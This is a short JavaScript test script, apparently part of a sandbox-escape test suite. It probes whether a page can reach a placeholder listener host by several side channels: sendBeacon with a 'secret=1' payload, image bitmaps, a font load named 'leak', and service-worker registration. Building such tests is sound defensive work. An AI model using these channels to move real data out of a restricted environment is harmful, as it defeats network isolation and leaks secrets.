/* global wire -- defined by hostile/wire.js, which packaging puts before this script */
/* Tries the requests a page makes without fetch: a beacon, an image, a font, a service worker. */
(async () => {
  const target = '__LISTENER__';
  const results = {
    sendBeacon:
      typeof navigator.sendBeacon === 'function'
        ? await wire.attempt(() => navigator.sendBeacon(`${target}/beacon`, 'secret=1'))
        : 'undefined',
    image: wire.globalType('Image'),
    imageBitmap: await wire.attempt(() =>
      fetch(`${target}/bitmap.png`)
        .then((response) => response.blob())
        .then(createImageBitmap),
    ),
    font: await wire.attempt(() =>
      Promise.race([new FontFace('leak', `url(${target}/font.woff2)`).load(), wire.timeout(3000)]),
    ),
    serviceWorker: navigator.serviceWorker
      ? await wire.attempt(() => navigator.serviceWorker.register(`${target}/sw.js`))
      : 'undefined',
  };
  await wire.report('beacon, image and font', results);
})();
